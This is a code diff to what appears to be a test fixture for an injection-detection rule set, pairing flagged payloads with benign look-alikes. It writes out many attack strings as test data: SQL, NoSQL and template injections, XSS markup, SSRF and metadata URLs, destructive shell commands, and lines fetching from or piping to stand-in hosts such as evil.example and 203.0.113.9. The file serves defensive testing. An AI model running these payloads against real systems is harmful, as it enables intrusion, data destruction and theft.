@@ -12,7 +12,7 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
   },
   101111: {
     hits: ["x' or true--", "x' and length('a')", "q' || 1 #"],
-    misses: ["the 'a' or 'b' option", "rock 'n' roll", "O'Neil and 5 others"],
+    misses: ['3" or 4"?', "the 'a' or 'b' option", "rock 'n' roll", "O'Neil and 5 others"],
   },
   101112: {
     hits: ["7' order by 3", "x' limit 1", "b') having sum(a"],
@@ -47,6 +47,7 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
   101151: {
     hits: ["drop table invoices", "delete from users where 1", "x' update staff set pay = 9", "exec sp_who"],
     misses: [
+      "Grant all permissions to admins",
       "drop table reservations by Friday",
       "delete from my list",
       "update the settings",
@@ -112,7 +113,10 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
     hits: ["a'='a", "'-'", "1' like '%", "x'||'y"],
     misses: ["6'-2\"", "'90s music", "Ana's and Bo's", "5' tall"],
   },
-  101251: { hits: ['x"") or (""a""=""a', "q'') or ('' = ''"], misses: ['say ""hi""', "it''s"] },
+  101251: {
+    hits: ['x"") or (""a""=""a', "q'') or ('' = ''"],
+    misses: ["'''Bold''' and ''italic'' text", 'say ""hi""', "it''s"],
+  },
   101260: {
     hits: ["cus_358b05c80a469d' or", "00000000-1111-2222-3333-444444444444'", '123456789"'],
     misses: ["cus_358b05c80a469d", "don't", "5'10"],
@@ -131,6 +135,10 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
   },
   106110: { hits: ["$where", "$ne", "$regex"], misses: ["$ref", "$comment", "$schema", "$id"] },
   106120: { hits: ["user[$ne]=1", '{"$gt":""}', "1, $where: '1'"], misses: ["$gt", "costs $in total", "{$name}"] },
+  106121: {
+    hits: ['{"$set":{"role":"x"}}', '[{"$unionWith":"t"}]', '{"id":{"$type":2}}', "filter[where][pin][like]=%"],
+    misses: ["{$size: 10px}", "costs {$all}", '{"type":{"set":1}}', "where to like"],
+  },
   106130: {
     hits: ["';return this.a=='b", "'||'a'=='a", "|| 1==1//", "x';while(1)"],
     misses: ["this.name", "return this", "'a' || 'b'"],
@@ -142,6 +150,18 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
   106150: {
     hits: ["' with 1 as a", "LOAD CSV FROM 'http://e'", "call apoc.load.json"],
     misses: ["'with 2", "call the office", "load a csv"],
+  },
+  106151: {
+    hits: ["/_users/_all_docs", "/_cat/indices", "{!func}x", "x OR *:*", "pin:x OR secret:[* TO *]", '_query_:"x"'],
+    misses: ["*:*", "all_docs", "{!important}", "age:[1 TO 5]", "_config.yml", "/_next/static/x.js"],
+  },
+  106152: {
+    hits: ["x' ALLOW FILTERING", "drop keyspace shop;", "FOR u IN staff RETURN u", "g.V().drop()", "x').has('y')"],
+    misses: ["allow filtering by date", "for us in return", "for x in items return", "$('a').has('b')", "1. V (five)"],
+  },
+  106160: {
+    hits: ["{__schema{types{name}}}", '__type(name:"User")', "x) { id } staff { pin } #"],
+    misses: ["query { user(id: 1) { name } }", "the __schema field", "if (a) { b } else { c }"],
   },
   113110: { hits: ["*)(uid=*", "x)(|(a=b", "a)(cn=b"], misses: ["(a)(b)", "50*2=100", "f(x)(y)"] },
   113120: { hits: ["(objectClass=*)", "(&(uid=a)(mail=b))", "(sn=admin)"], misses: ["(a=b)", "uid 5", "(mail me)"] },
@@ -243,6 +263,10 @@ const MARKUP: Readonly<Record<string, RuleCases>> = {
   102171: { hits: ["<img/src/=x", "<x onx>", "<p srcdoc=x>", "<<img src=x>"], misses: ["<img src='a.png'>", "1 << 2"] },
   102172: { hits: ["<![CDATA[x", '<?xml version="1.0"?>', "<?xml-stylesheet x?>"], misses: ["xml", "<xmlns>"] },
   102173: { hits: ["<body background=x>", "<img src=x>"], misses: ["<body>", '<img src="https://x.example/a.png">'] },
+  102174: {
+    hits: ["<img name=cookie>", '<form id="createElement">', "<a id=__proto__>"],
+    misses: ['<img alt="cookie">', '<a name="attributes">', '<input name="email">', "<form id=login>"],
+  },
   102180: {
     hits: ["{{constructor.constructor('x')()}}", "<p ng-init='x'>", "<b v-html='x'>", "<b x-init=y>"],
     misses: ["{{name}}", "ng-book", "v-neck shirt"],
@@ -277,7 +301,7 @@ const MARKUP: Readonly<Record<string, RuleCases>> = {
 const CODE: Readonly<Record<string, RuleCases>> = {
   103110: {
     hits: ["a.png; wget http://evil.example/x", "x | nc 203.0.113.9 9", "1 && whoami", "$(curl http://e)"],
-    misses: ["R&D; sales", "&lt;source&gt;", "Tom & Jerry"],
+    misses: ["Python; Perl; Ruby", "Linux; Bash", "R&D; sales", "&lt;source&gt;", "Tom & Jerry"],
   },
   103111: { hits: ["x; cat /etc/x", "x|id", "1 & sleep 5"], misses: ["cats; dogs", "ping | pong", "a; b | c"] },
   103112: {
@@ -298,11 +322,15 @@ const CODE: Readonly<Record<string, RuleCases>> = {
   },
   103120: {
     hits: ["/bin/bash -c x", "nc -e x 203.0.113.9 1", "rm -rf /x", "cat /etc/hosts", "curl http://e | sh"],
-    misses: ["bash is a shell", "a cat and a dog", "chmod explained"],
+    misses: ["#!/bin/bash", "bash is a shell", "a cat and a dog", "chmod explained"],
   },
   103121: {
     hits: ["wget http://evil.example/x", "uname -a", "ls -la /"],
     misses: ["list", "sleep 5 hours", "ping me"],
+  },
+  103122: {
+    hits: ["mkfs.ext4 /dev/sdb", "echo x > /dev/sda", "docker run -v /:/host x", "find / -exec id", "iptables -F"],
+    misses: ["docker run -p 80:80 nginx", "find a file", "kill -9 is the last resort", "history of c", "osascript"],
   },
   103130: {
     hits: ["x`sleep 9`", "$(cat </etc/hosts)", "`/usr/bin/id`"],
@@ -322,6 +350,10 @@ const CODE: Readonly<Record<string, RuleCases>> = {
     misses: ["line one\nline two", "config set"],
   },
   103170: { hits: ["\u001b[2Jcurl x", "\\033[2wget x", "\u001b]0;x"], misses: ["\u001b[31mred\u001b[0m", "[2A"] },
+  103180: {
+    hits: ["CreateObject('WScript.Shell')", 'new ActiveXObject("x")', "GetObject('winmgmts:')"],
+    misses: ["create an object", "createObject('cart')", "ActiveX objects"],
+  },
   107110: { hits: ["{{7*7}}", "${7*7}", "#{7*7}", "{{'a'*7}}"], misses: ["{{name}}", "${total}", "7*7"] },
   107120: {
     hits: ["x.__class__.__mro__", "a|attr('__globals__')", "['__init__']"],
@@ -353,9 +385,9 @@ const CODE: Readonly<Record<string, RuleCases>> = {
   },
   107150: {
     hits: ['<#assign x="y">', '${"x"?new()}', "#set($x='y')", "$x.class.inspect"],
-    misses: ["#set", "$5.00", "<#1>"],
+    misses: ["<@U12345> has joined", "<@!80351110224678912> hi", "#set", "$5.00", "<#1>"],
   },
-  107160: { hits: ["<%= name %>", "<% system('x') %>", "<jsp:include>"], misses: ["50 <% of", "5 % > 3"] },
+  107160: { hits: ["<%= name %>", "<% system('x') %>", "<jsp:include>"], misses: ["<%body%>", "50 <% of", "5 % > 3"] },
   107161: { hits: ["{php}x{/php}", "{system('x')}", "{$smarty.version}", "{!! x !!}"], misses: ["{name}", "{if}"] },
   107162: {
     hits: ["{{#with x}}", "{{= x}}", "{{range.constructor('x')}}", "#{root.process}"],
@@ -391,9 +423,13 @@ const CODE: Readonly<Record<string, RuleCases>> = {
     hits: ["<java><object class='x'>", "<sorted-set>", "<void method='x'>"],
     misses: ["<javanese>", "<object>"],
   },
+  111117: {
+    hits: ["jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'x'", "jdbc:mysql://x/a?autoDeserialize=true", "?socketFactory=a.B"],
+    misses: ["jdbc:postgresql://db.example.com/a?ssl=true", "jdbc:h2:mem:a", "socket factory = x"],
+  },
   111120: {
     hits: ['{"@type":"com.sun.rowset.X"}', '{"$type":"System.X, Y"}', "{'py/object':'os.system'}"],
-    misses: ['{"type":"user"}', '{"@id":"x"}', "@type: user"],
+    misses: ['{"@type":"Product","name":"Chair"}', '{"type":"user"}', '{"@id":"x"}', "@type: user"],
   },
   111130: { hits: ["@class", "$type"], misses: ["class", "type", "@id"] },
   111131: { hits: ["json_class", "py/object"], misses: ["class", "py"] },
@@ -422,6 +458,10 @@ const CODE: Readonly<Record<string, RuleCases>> = {
     misses: ["the system (old)", "eval(x)"],
   },
   115121: { hits: ["system('id');", "print md5(1)", "die(md5(3))"], misses: ["print (paper)", "the system ('x')"] },
+  115122: {
+    hits: ["('system')('id')", "strrev('metsys')('x')", "\"\\x73ystem\"('x')", "chr(105).chr(100)", "$f='exec';"],
+    misses: ["the (system) (x)", "strrev('abc')", "chr(65)", "$name = 'system';x", "call (exec) now"],
+  },
   115130: { hits: ["$_POST['a']", "${@print(1)}", "$GLOBALS['x']"], misses: ["$post", "$_"] },
   117110: {
     hits: ["require('child_process')", "process.mainModule.x", "execSync('id')", "global.process.exit()"],
@@ -504,13 +544,22 @@ const PLACES: Readonly<Record<string, RuleCases>> = {
     hits: ["gopher://x.example/_", "dict://x:11211/", "ldap://x.example/", "file:///x"],
     misses: ["mailto:a@b.example", "tcp: a protocol", "postgres://db.example/x"],
   },
+  105121: {
+    hits: ["redis://127.0.0.1:6379/", "mysql://root@10.0.0.5/", "mongodb://localhost/x"],
+    misses: ["redis://cache.example.com", "ssh://git@localhost/a.git", "localhost redis"],
+  },
   105130: {
     hits: ["/latest/meta-data/iam", "169.254.169.254", "/computeMetadata/v1/"],
     misses: ["the latest metadata", "169.254 is a prefix"],
   },
   105140: {
     hits: ["https://localhost:22/", "http://x.example/?u=http://localhost", "http://localhost:6379"],
-    misses: ["http://localhost:3000/users", "localhost", "run it on localhost"],
+    misses: [
+      "https://id.example/login?redirect_uri=http%3A%2F%2Flocalhost%2Fapp",
+      "http://localhost:3000/users",
+      "localhost",
+      "run it on localhost",
+    ],
   },
   105141: { hits: ["http://localhost", "https://localhost/"], misses: ["http://localhost:3000", "localhost"] },
   109110: {
